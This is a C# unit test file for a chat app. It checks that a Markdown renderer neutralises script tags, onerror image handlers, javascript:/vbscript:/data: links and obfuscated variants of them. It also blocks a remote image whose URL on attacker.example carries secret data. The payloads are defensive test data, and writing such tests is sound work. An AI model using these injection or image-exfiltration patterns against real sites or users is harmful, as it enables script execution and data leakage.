using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Bunit;
using CommandCenter.Services.Conversations;
using CommandCenter.Web.Chat;
using Microsoft.Extensions.DependencyInjection;
using MudBlazor.Services;

namespace CommandCenter.Unit.Components;

public sealed class MarkdownSanitisationTests : BunitContext
{
    private const string Script = "<script>alert(1)</script>";
    private const string ImgOnError = "<img src=x onerror=alert(1)>";
    private const string JavascriptLink = "[x](javascript:alert(1))";

    private readonly MarkdownRenderer _renderer = new();

    public MarkdownSanitisationTests()
    {
        Services.AddMudServices();
        Services.AddSingleton(_renderer);
        JSInterop.Mode = JSRuntimeMode.Loose;
    }

    private IElement Html(string markdown) => new HtmlParser().ParseDocument("<body>" + _renderer.ToSafeHtml(markdown) + "</body>").Body!;

    private IElement Reply(string markdown) =>
        Render<ChatMessageItem>(p => p.Add(c => c.Message, new ChatMessage(MessageRole.Assistant, markdown)))
            .Find("[data-testid=reply-text]");

    private static void ShouldShowScriptAsText(IElement root)
    {
        root.QuerySelectorAll("script").ShouldBeEmpty();
        root.TextContent.ShouldContain(Script);
        root.InnerHtml.ShouldContain("&lt;script&gt;");
    }

    private static void ShouldHaveNoImageOrHandler(IElement root)
    {
        root.QuerySelectorAll("img").ShouldBeEmpty();
        root.QuerySelectorAll("[onerror]").ShouldBeEmpty();
        root.TextContent.ShouldContain(ImgOnError);
    }

    private static void ShouldHaveNoJavascriptHref(IElement root)
    {
        root.QuerySelectorAll("a").Select(a => a.GetAttribute("href") ?? "").ShouldAllBe(h => !h.Contains("javascript", StringComparison.OrdinalIgnoreCase));
        root.InnerHtml.ShouldNotContain("javascript:", Case.Insensitive);
    }

    [Fact]
    public void ScriptTagIsShownAsText() => ShouldShowScriptAsText(Html(Script));

    [Fact]
    public void ScriptTagInAReplyIsShownAsText() => ShouldShowScriptAsText(Reply(Script));

    [Fact]
    public void ImageWithOnErrorIsNotAnElement() => ShouldHaveNoImageOrHandler(Html(ImgOnError));

    [Fact]
    public void ImageWithOnErrorInAReplyIsNotAnElement() => ShouldHaveNoImageOrHandler(Reply(ImgOnError));

    [Fact]
    public void MarkdownImageWithJavascriptSourceIsDropped()
    {
        var root = Html("![x](javascript:alert(1))");

        root.QuerySelectorAll("img[src^='javascript']").ShouldBeEmpty();
        root.InnerHtml.ShouldNotContain("javascript:", Case.Insensitive);
    }

    [Fact]
    public void RemoteImagesAreNotLoadedSoAReplyCannotSendTextToAnotherServer()
    {
        var root = Html("![chart](https://attacker.example/pixel.png?q=secret)");

        root.QuerySelectorAll("img").ShouldBeEmpty();
        root.InnerHtml.ShouldNotContain("attacker.example");
    }

    [Fact]
    public void JavascriptLinkHasNoJavascriptHref() => ShouldHaveNoJavascriptHref(Html(JavascriptLink));

    [Fact]
    public void JavascriptLinkInAReplyHasNoJavascriptHref() => ShouldHaveNoJavascriptHref(Reply(JavascriptLink));

    [Theory]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](javascript&#58;alert(1))")]
    [InlineData("[x](<javascript:alert(1)>)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    public void LinksWithOtherSchemesHaveNoHref(string markdown)
    {
        var link = Html(markdown).QuerySelector("a");

        link.ShouldNotBeNull();
        link.HasAttribute("href").ShouldBeFalse();
    }

    [Fact]
    public void BoldBecomesStrong()
    {
        Html("**bold**").QuerySelector("strong")!.TextContent.ShouldBe("bold");
        Reply("**bold**").QuerySelector("strong")!.TextContent.ShouldBe("bold");
    }

    [Fact]
    public void FencedCodeBlockKeepsItsLanguageClass()
    {
        const string markdown = "```csharp\nvar x = 1 < 2;\n```";

        foreach (var root in new[] { Html(markdown), Reply(markdown) })
        {
            var code = root.QuerySelector("pre > code")!;
            code.ClassList.ShouldContain("language-csharp");
            code.TextContent.ShouldBe("var x = 1 < 2;\n");
        }
    }

    [Fact]
    public void HttpsLinkOpensInANewTabWithoutTheOpener()
    {
        foreach (var root in new[] { Html("[docs](https://example.com/a?b=1)"), Reply("[docs](https://example.com/a?b=1)") })
        {
            var link = root.QuerySelector("a")!;
            link.GetAttribute("href").ShouldBe("https://example.com/a?b=1");
            link.GetAttribute("target").ShouldBe("_blank");
            link.GetAttribute("rel")!.Split(' ').ShouldContain("noopener");
            link.TextContent.ShouldBe("docs");
        }
    }

    [Fact]
    public void BareUrlBecomesASafeLink()
    {
        var link = Html("see https://example.com for more").QuerySelector("a")!;

        link.GetAttribute("href").ShouldBe("https://example.com");
        link.GetAttribute("target").ShouldBe("_blank");
        link.GetAttribute("rel")!.Split(' ').ShouldContain("noopener");
    }

    [Fact]
    public void UserMessageWithHtmlIsShownAsText()
    {
        const string text = "<b>hi</b><script>alert(1)</script><img src=x onerror=alert(1)>";
        var cut = Render<ChatMessageItem>(p => p.Add(c => c.Message, new ChatMessage(MessageRole.User, text)));

        var userText = cut.Find(".cc-user-text");
        userText.TextContent.ShouldBe(text);
        userText.Children.ShouldBeEmpty();
        cut.FindAll("script, img, b, [onerror]").ShouldBeEmpty();
    }
}
